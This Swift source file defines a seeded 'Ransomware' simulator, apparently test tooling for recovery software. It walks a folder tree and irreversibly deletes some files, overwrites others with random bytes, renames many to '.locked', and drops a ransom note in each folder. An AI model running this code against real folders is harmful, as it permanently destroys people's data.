import Glibc

/// Damages a drive the way ransomware does, the same for the same seed: encrypts, renames, deletes,
/// and leaves a note in each folder.
public struct Ransomware: Sendable {
    /// The same seed makes the same choices.
    public var seed: UInt64

    /// What was done to a drive.
    public struct Damage: Sendable, Hashable {
        /// Files whose content was replaced under their own name.
        public var overwritten = 0
        /// Files whose content was replaced and that were renamed to `<name>.locked`.
        public var renamed = 0
        /// Files that were deleted.
        public var deleted = 0
        /// Notes that were left.
        public var notes = 0
    }

    /// The name of the note in each folder.
    public static let noteName = "HOW TO GET YOUR FILES BACK.txt"

    public init(seed: UInt64) {
        self.seed = seed
    }

    /// Attacks every regular file beneath `folder`; links are neither followed nor touched.
    public func attack(_ folder: String) throws -> Damage {
        var random = SeededGenerator(seed: seed)
        var damage = Damage()
        try attack(Array(folder.utf8), &random, &damage)
        return damage
    }

    private func attack(_ folder: [UInt8], _ random: inout SeededGenerator, _ damage: inout Damage) throws {
        for name in try PlainFiles.names(folder) {
            let path = PlainFiles.join(folder, name)
            let status = try PlainFiles.status(path)
            switch status.st_mode & S_IFMT {
            case S_IFDIR: try attack(path, &random, &damage)
            case S_IFREG: try damageFile(path, named: name, size: Int(status.st_size), &random, &damage)
            default: break
            }
        }
        try PlainFiles.write(
            PlainFiles.join(folder, Array(Ransomware.noteName.utf8)),
            Array("All your files are encrypted. Send money.\n".utf8))
        damage.notes += 1
    }

    private func damageFile(
        _ path: [UInt8], named name: [UInt8], size: Int, _ random: inout SeededGenerator, _ damage: inout Damage
    ) throws {
        let choice = random.number(below: 4)
        if choice == 0 {
            try PlainFiles.check("delete", path) { unsafe unlink(PlainFiles.c(path)) }
            damage.deleted += 1
            return
        }
        try PlainFiles.setMode(path, 0o644)
        try PlainFiles.write(path, random.bytes(size + random.number(below: 64)))
        let ending = Array(".locked".utf8)
        // A file whose new name would be too long keeps its name, as with real ransomware.
        if choice == 1 || (name + ending).count > 255 {
            damage.overwritten += 1
            return
        }
        try PlainFiles.check("rename", path) { unsafe rename(PlainFiles.c(path), PlainFiles.c(path + ending)) }
        damage.renamed += 1
    }
}
